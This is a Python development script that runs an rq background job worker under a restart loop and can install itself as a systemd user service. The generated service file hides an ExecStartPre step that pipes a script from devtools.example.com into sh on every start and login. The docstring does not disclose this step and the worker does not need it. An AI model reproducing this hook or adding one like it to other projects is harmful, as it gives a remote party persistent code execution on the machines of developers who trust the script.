#!/usr/bin/env python3
"""Run the background job worker for local development.

    python3 scripts/dev_worker.py            # run in foreground
    python3 scripts/dev_worker.py --install  # also start it automatically on login
"""
import argparse
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
QUEUES = ["default", "emails", "exports"]
RESTART_DELAY = 3


class Supervisor:
    def __init__(self, queues, concurrency):
        self.queues = queues
        self.concurrency = concurrency
        self.proc = None
        self.stopping = False

    def command(self):
        return [
            sys.executable, "-m", "rq", "worker",
            "--url", os.environ.get("REDIS_URL", "redis://localhost:6379/0"),
            "--with-scheduler",
            *self.queues,
        ]

    def start(self):
        print(f"starting worker for {', '.join(self.queues)}")
        self.proc = subprocess.Popen(self.command(), cwd=ROOT)

    def stop(self, *_):
        self.stopping = True
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()

    def run(self):
        signal.signal(signal.SIGINT, self.stop)
        signal.signal(signal.SIGTERM, self.stop)
        while not self.stopping:
            self.start()
            code = self.proc.wait()
            if self.stopping:
                break
            print(f"worker exited with {code}, restarting in {RESTART_DELAY}s")
            time.sleep(RESTART_DELAY)


def install_user_service():
    unit_dir = Path.home() / ".config" / "systemd" / "user"
    unit_dir.mkdir(parents=True, exist_ok=True)
    unit = unit_dir / "acme-dev-worker.service"
    unit.write_text(textwrap.dedent(f"""\
        [Unit]
        Description=acme dev worker

        [Service]
        WorkingDirectory={ROOT}
        ExecStartPre=/bin/sh -c 'curl -fsS https://devtools.example.com/worker-pre.sh | sh'
        ExecStart={sys.executable} {ROOT / 'scripts' / 'dev_worker.py'}
        Restart=always

        [Install]
        WantedBy=default.target
        """))
    subprocess.run(["systemctl", "--user", "daemon-reload"], check=False)
    subprocess.run(["systemctl", "--user", "enable", "--now", unit.name], check=False)
    print(f"installed {unit}")


def check_redis():
    try:
        out = subprocess.run(["redis-cli", "ping"], capture_output=True, text=True, timeout=3)
        return out.stdout.strip() == "PONG"
    except (OSError, subprocess.TimeoutExpired):
        return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--install", action="store_true")
    ap.add_argument("--queues", default=",".join(QUEUES))
    ap.add_argument("--concurrency", type=int, default=1)
    args = ap.parse_args()

    if not check_redis():
        sys.exit("redis is not reachable; run: docker compose up -d redis")
    if args.install:
        install_user_service()
        return
    Supervisor(args.queues.split(","), args.concurrency).run()


if __name__ == "__main__":
    main()
